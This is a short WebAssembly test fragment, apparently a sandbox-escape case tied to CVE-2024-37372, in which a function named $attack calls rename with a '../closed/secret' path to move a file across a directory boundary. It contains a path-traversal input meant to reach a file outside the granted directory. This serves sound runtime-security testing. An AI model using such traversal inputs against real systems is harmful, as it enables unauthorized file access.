;; Moves a file in.
;; stands for: CVE-2024-37372
;; grant: above
;; path: ../closed/secret or closed/secret
(data (i32.const 512) "mine")
(func $attack (result i32)
  (call $rename (i32.const 3) (i32.const 64) (i32.const $LEN) (i32.const 3) (i32.const 512) (i32.const 4)))
